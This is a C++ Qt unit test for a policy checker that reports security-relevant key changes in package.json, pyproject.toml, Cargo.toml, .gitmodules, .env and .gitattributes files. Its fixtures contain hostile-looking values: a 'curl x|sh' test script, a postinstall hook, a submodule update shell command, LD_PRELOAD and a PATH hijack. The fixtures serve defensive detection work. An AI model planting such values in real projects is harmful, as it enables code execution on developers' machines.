// SPDX-FileCopyrightText: The Revet developers
// SPDX-License-Identifier: Apache-2.0

#include "engine/policy/changed_keys.h"
#include "tests/engine/policy/resource_text.h"
#include "tests/support/tostring.h"

#include <QTest>

using namespace revet;
using namespace revet::policy;

namespace {

std::string changed(const char* path, std::string_view before, std::string_view after)
{
    static const auto table = RunLaterTable::parse(resourceText("tables/run-later.toml"));
    const auto check = table->check(path);
    std::string text;
    for (const std::string& key :
         check ? changedKeys(*check, before, after) : std::vector<std::string>{"is not checked"}) {
        text += (text.empty() ? "" : ", ") + key;
    }
    return text;
}

} // namespace

class TestChangedKeys : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void readsJson()
    {
        const char* const before = R"({"name":"x","version":"1","scripts":{"test":"jest"}})";
        QCOMPARE(changed("package.json", before, R"({ "version":"2", "name":"y",
            "scripts": {"test": "jest"} })"),
                 std::string());
        QCOMPARE(changed("package.json", before,
                         R"({"scripts":{"test":"jest; curl x|sh","postinstall":"y"},"bin":"z"})"),
                 std::string("bin, scripts.postinstall, scripts.test"));
        QCOMPARE(changed("package.json", before, R"({"scripts":"evil"})"),
                 std::string("scripts, scripts.test"));
        QCOMPARE(changed("package.json", "", R"({"name":"x"})"), std::string());
        QCOMPARE(changed("package.json", before, ""), std::string("scripts.test"));
        QCOMPARE(changed("sub/tsconfig.json", "{// c\n\"a\":1}", "{\"a\":2,\"extends\":\"./b\"}"),
                 std::string("extends"));
    }

    void countsWhatItCannotReadAsAWhole()
    {
        const std::string whole = "the whole file";
        QCOMPARE(changed("package.json", "{}", "{"), whole);
        QCOMPARE(changed("package.json", "{}", "[1]"), whole);
        QCOMPARE(
            changed("package.json", "{}", "{\"a\":" + std::string(100, '[') + std::string(100, ']') + '}'),
            whole);
        QCOMPARE(changed("package.json", "{}", std::string(1000000, '[')), whole);
        QCOMPARE(changed("pyproject.toml", "", "not toml"), whole);
        QCOMPARE(changed("Makefile", "a:\n", "b:\n"), whole);
        QCOMPARE(changed("Makefile", "a:\n", "a:\n"), std::string());
    }

    void readsToml()
    {
        const char* const before = "[project]\nname = 'x'\ndependencies = ['a']\n";
        QCOMPARE(changed("pyproject.toml", before, "[project]\nname = 'y'\ndependencies = ['a']\n"),
                 std::string());
        QCOMPARE(changed("pyproject.toml", before,
                         "[project]\nname = 'x'\ndependencies = ['a', 'b']\n[build-system]\nrequires = []\n"),
                 std::string("build-system.requires, project.dependencies"));
        QCOMPARE(
            changed("Cargo.toml", "[package]\nversion = '1'\n", "[package]\nversion = '2'\nbuild = 'b.rs'\n"),
            std::string("package.build"));
    }

    void readsGitModules()
    {
        const char* const before = "[submodule \"a.b\"]\n\tpath = a\n\turl = ../a\n";
        QCOMPARE(changed(".gitmodules", before, "[submodule \"a.b\"]\n\tpath = c\n\turl = ../a\n"),
                 std::string());
        QCOMPARE(changed(".gitmodules", before, std::string(before) + "\tupdate = !touch /tmp/x\n"),
                 std::string("submodule.a.b.update"));
    }

    void readsVariablesAndLines()
    {
        QCOMPARE(changed(".env", "COLOUR=red\n", "COLOUR=blue\n# x\n"), std::string());
        QCOMPARE(changed(".env", "PATH=/bin\n", "export PATH = /tmp:/bin\nLD_PRELOAD=x.so\n"),
                 std::string("LD_PRELOAD, PATH"));
        QCOMPARE(changed(".gitattributes", "*.txt text\n", "*.txt text\n*.c eol=lf\n"), std::string());
        QCOMPARE(changed(".gitattributes", "*.txt text\n", "*.txt text\n*.c filter=evil\n"),
                 std::string("*.c filter=evil"));
    }
};

QTEST_APPLESS_MAIN(TestChangedKeys)
#include "tst_changed_keys.moc"
